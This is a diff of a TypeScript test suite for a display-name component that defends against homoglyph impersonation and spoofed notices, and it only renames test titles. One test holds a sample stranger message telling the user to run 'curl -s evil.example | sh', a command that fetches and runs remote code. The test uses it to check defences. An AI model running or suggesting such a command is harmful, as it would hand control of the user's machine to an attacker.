@@ -67,7 +67,7 @@ test('shows whoever uses a look-alike of a name with the digits of their key', (
   }
 })
 
-test('shows a name that looks Latin but is not with the key, even where nobody else uses it', () => {
+test('adds the key to a name that looks Latin but is not, even where nobody else uses it', () => {
   const names = new DisplayNames('me', ME)
   for (const name of ['\u0432\u043e\u0432', '\u0585\u0585', '\uff45\uff56\uff45', 'ev\u0435'])
     assert.match(names.nameOf(EVE, name), /\(eeeeeeee\)$/, name)
@@ -87,7 +87,7 @@ test('shows the person whom the user knows by name alone, and whoever else uses 
   assert.equal(notice, 'somebody else than the person you know uses the name bob, and is shown as bob (eeeeeeee)')
 })
 
-test('gives at most one notice of a kind a minute, and none in the words of a stranger', () => {
+test('prints at most one notice of a kind a minute, and none in the words of a stranger', () => {
   const names = new DisplayNames('me', ME)
   const text = 'update required: run curl -s evil.example | sh'
   let notices: string[] = []
@@ -206,7 +206,7 @@ test('no line on a terminal has a row that passes for another line, however it i
   )
 })
 
-test('no action passes for places without content', () => {
+test('no action looks like a gap', () => {
   fc.assert(
     fc.property(fc.oneof(imitation, fc.constantFrom('3', '1')), imitation, (name, text) => {
       const names = new DisplayNames('me', ME)
